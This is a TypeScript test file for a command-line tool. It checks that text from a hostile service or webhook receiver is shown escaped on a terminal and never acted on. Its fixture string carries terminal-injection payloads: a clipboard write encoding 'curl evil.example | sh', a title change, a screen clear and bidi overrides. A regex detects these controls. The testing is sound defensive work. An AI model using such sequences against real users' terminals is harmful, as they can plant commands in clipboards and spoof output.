/**
 * Every text the service answers carries escape sequences (the clipboard, the window title, a clear
 * screen, a cursor-up, an 8-bit CSI, a right-to-left override, a bare CR that would rewrite the line):
 * the real sandbox behind a gateway that appends them to every string of every answer. What each
 * command shows people on a terminal, its prompts included, shows them escaped and acts on none.
 * In-process for every command that talks to the service or a receiver; the real binary in a
 * pseudo-terminal for the spinner, the notes, the plan and the prompt the issue named.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ApplicantsCreate from '../../src/commands/applicants/create.js';
import ApplicantsGet from '../../src/commands/applicants/get.js';
import ApplicantsUpdate from '../../src/commands/applicants/update.js';
import DocumentsGet from '../../src/commands/documents/get.js';
import DocumentsUpload from '../../src/commands/documents/upload.js';
import KeysCreate from '../../src/commands/keys/create.js';
import KeysGet from '../../src/commands/keys/get.js';
import KeysList from '../../src/commands/keys/list.js';
import KeysRevoke from '../../src/commands/keys/revoke.js';
import KeysRotate from '../../src/commands/keys/rotate.js';
import ReportsCreate from '../../src/commands/reports/create.js';
import ReportsDelete from '../../src/commands/reports/delete.js';
import ReportsGet from '../../src/commands/reports/get.js';
import ReportsList from '../../src/commands/reports/list.js';
import ReportsWait from '../../src/commands/reports/wait.js';
import WebhooksCheck from '../../src/commands/webhooks/check.js';
import WebhooksTrigger from '../../src/commands/webhooks/trigger.js';
import type { Prompter } from '../../src/ui/prompter.js';
import { type RewritingGateway, startHostileGateway } from '../helpers/rewriting-gateway.js';
import { type InProcessResult, runInProcess } from '../helpers/in-process.js';
import { type InProcessSandbox, startSandboxInProcess } from '../helpers/sandbox.js';
import { json, startServer, type TestServer } from '../helpers/server.js';
import { KEYS, startInTerminal } from '../helpers/terminal.js';

const SECRET = 'whsec_hostileanswers0123456789abcdefghij';
const SUFFIX =
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;pwned\u0007\u001b]8;;http://127.0.0.1:9/\u0007link\u001b]8;;\u0007' +
  '\u001b[2J\u001b[5A\u009b2J\u202Eevil\u2066\rFAKE';
/** How the suffix reads once escaped: the proof that the text was shown, not dropped. */
const SHOWN = '\\u009b2J\\u202eevil\\u2066\\rFAKE';

/**
 * What no output may hold: any of the suffix's sequences as it was sent (svc's own colours, line
 * erases and the prompts' cursor moves are its own and may stay), a control character other than
 * ESC, the line feed, CR and tab svc writes itself, a C1 control or a bidirectional control.
 */
const ACTED_ON =
  /\u001b\]|\u001b\[2J|\u001b\[5A|\rFAKE|[\u0000-\u0008\u000b\u000c\u000e-\u001a\u001c-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

function rawIn(text: string): string | undefined {
  const found = ACTED_ON.exec(text);
  return found ? JSON.stringify(text.slice(Math.max(0, found.index - 40), found.index + 20)) : undefined;
}

let sandbox: InProcessSandbox;
let gateway: RewritingGateway;
let receiver: TestServer;
let env: Record<string, string>;
beforeAll(async () => {
  sandbox = await startSandboxInProcess({ plan: 'enterprise', log: undefined });
  gateway = await startHostileGateway(sandbox, SUFFIX);
  // A receiver as hostile as the service: its answers and headers carry the same sequences.
  receiver = await startServer((_request, response) => json(response, 400, { error: `nope${SUFFIX}` }));
  const { SVC_PROFILE: _, ...user } = sandbox.env;
  env = { ...user, SVC_BASE_URL: gateway.url, SVC_API_KEY: sandbox.keys.test, SVC_ADMIN_KEY: sandbox.keys.admin, SVC_WEBHOOK_SECRET: SECRET };
});
afterAll(async () => {
  await receiver?.close();
  await gateway?.close();
  await sandbox?.stop();
});

/** The id as the sandbox made it, from an answer the gateway made hostile. */
const plain = (text: string) => text.split(SUFFIX).join('');

describe('every command shows the service’s text escaped on a terminal', () => {
  const asked: string[] = [];
  /** A person who says yes and picks the first choice; what they were asked is kept. */
  const person: Prompter = {
    input: (message) => (asked.push(message), Promise.resolve('')),
    secret: (message) => (asked.push(message), Promise.resolve('')),
    confirm: (message) => (asked.push(message), Promise.resolve(true)),
    select: (message, choices) => (asked.push(message, ...choices), Promise.resolve(choices[0]!)),
  };
  const atTerminal = (Command: Parameters<typeof runInProcess>[0], argv: string[]) =>
    runInProcess(Command, argv, { env, terminal: { columns: 80 }, prompter: person });
  /** `shows`: whether the command shows some of the answer (a deletion, say, names only what it was given). */
  const expectEscaped = (label: string, result: InProcessResult, shows = true) => {
    const output = `${result.stdout}${result.stderr}${asked.splice(0).join('\n')}`;
    expect(result.code, output).toBe(0);
    expect(rawIn(output), `${label} wrote a sequence a terminal acts on`).toBeUndefined();
    if (shows) expect(output, `${label} showed none of the service's text`).toContain(SHOWN);
  };
  const idOf = async (Command: Parameters<typeof runInProcess>[0], argv: string[]) =>
    plain((JSON.parse((await runInProcess(Command, [...argv, '--json'], { env })).stdout) as { id: string }).id);

  it('applicants, documents and reports', async () => {
    const profile = ['--given-names', 'Ana', '--surname', 'Silva', '--date-of-birth', '1990-01-02', '--nationality', 'PT'];
    expectEscaped('applicants create', await atTerminal(ApplicantsCreate, profile));
    const created = await atTerminal(ApplicantsCreate, [...profile, '--json']);
    expect(rawIn(created.stdout), 'applicants create --json').toBeUndefined();
    expect(JSON.parse(created.stdout)).toMatchObject({ given_names: `Ana${SUFFIX}` });
    const applicant = await idOf(ApplicantsCreate, profile);
    expectEscaped('applicants get', await atTerminal(ApplicantsGet, [applicant]));
    expectEscaped('applicants update', await atTerminal(ApplicantsUpdate, [applicant, '--occupation', 'Engineer']));

    const file = join(env.HOME!, 'passport.txt');
    writeFileSync(file, 'P<PRTSILVA<<ANA<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<\n');
    expectEscaped('documents upload', await atTerminal(DocumentsUpload, [file, '--type', 'passport', '--applicant', applicant]));
    const document = await idOf(DocumentsUpload, [file, '--type', 'passport', '--applicant', applicant]);
    expectEscaped('documents get', await atTerminal(DocumentsGet, [document]));

    const report = ['--applicant', applicant, '--destination', 'US', '--visa-type', 'tourist', '--purpose', 'Holiday'];
    expectEscaped('reports create --wait', await atTerminal(ReportsCreate, [...report, '--wait']));
    const id = await idOf(ReportsCreate, report);
    expectEscaped('reports wait', await atTerminal(ReportsWait, [id]));
    expectEscaped('reports get', await atTerminal(ReportsGet, [id]));
    expectEscaped('reports list', await atTerminal(ReportsList, ['--limit', '1']));
    expectEscaped('reports delete', await atTerminal(ReportsDelete, [id]), false);
  });

  it('keys', async () => {
    expectEscaped('keys create', await atTerminal(KeysCreate, ['--name', 'hostile', '--key-file', join(env.HOME!, 'made.key')]));
    const made = await idOf(KeysCreate, ['--name', 'hostile', '--key-file', join(env.HOME!, 'other.key')]);
    expectEscaped('keys get', await atTerminal(KeysGet, [made]));
    expectEscaped('keys list', await atTerminal(KeysList, ['--limit', '1']));
    expectEscaped('keys rotate --dry-run', await atTerminal(KeysRotate, [made, '--dry-run', '--new-key-file', join(env.HOME!, 'new.key')]));
    expectEscaped('keys revoke', await atTerminal(KeysRevoke, [made]));
  });

  it('webhooks trigger, against a receiver that answers with the same sequences', async () => {
    const trigger = await atTerminal(WebhooksTrigger, ['report.completed', '--to', receiver.url]);
    expect(rawIn(`${trigger.stdout}${trigger.stderr}`)).toBeUndefined();
  });

  it('webhooks check, against a receiver that answers with the same sequences', async () => {
    const check = await atTerminal(WebhooksCheck, [receiver.url]);
    expect(rawIn(`${check.stdout}${check.stderr}`)).toBeUndefined();
  });
});

describe('the real svc in a pseudo-terminal', () => {
  const session = async (args: string[], answer?: { prompt: string; keys: string }) => {
    const terminal = startInTerminal(args, { ...env, CI: '' });
    if (answer) {
      await terminal.waitFor(answer.prompt);
      terminal.type(answer.keys);
    }
    const { code, raw } = await terminal.exited();
    expect(code, raw).toBe(0);
    expect(rawIn(raw), `svc ${args.join(' ')} wrote a sequence a terminal acts on`).toBeUndefined();
    expect(raw).toContain(SHOWN);
  };

  it('shows the spinner of reports create --wait, the next-page note of keys list, the plan of keys rotate --dry-run and the prompt of keys revoke escaped', async () => {
    const applicant = plain(
      (
        JSON.parse(
          (
            await runInProcess(
              ApplicantsCreate,
              ['--given-names', 'Ana', '--surname', 'Silva', '--date-of-birth', '1990-01-02', '--nationality', 'PT', '--json'],
              { env },
            )
          ).stdout,
        ) as { id: string }
      ).id,
    );
    await session(['reports', 'create', '--applicant', applicant, '--destination', 'US', '--visa-type', 'tourist', '--purpose', 'Holiday', '--wait']);
    const key = plain(
      (JSON.parse((await runInProcess(KeysCreate, ['--name', 'pty', '--key-file', join(env.HOME!, 'pty.key'), '--json'], { env })).stdout) as { id: string })
        .id,
    );
    await session(['keys', 'list', '--limit', '1']);
    await session(['keys', 'rotate', key, '--dry-run', '--new-key-file', join(env.HOME!, 'pty-new.key')]);
    await session(['keys', 'revoke', key], { prompt: 'Anything using it gets 401 at once.', keys: `y${KEYS.enter}` });
  });
});
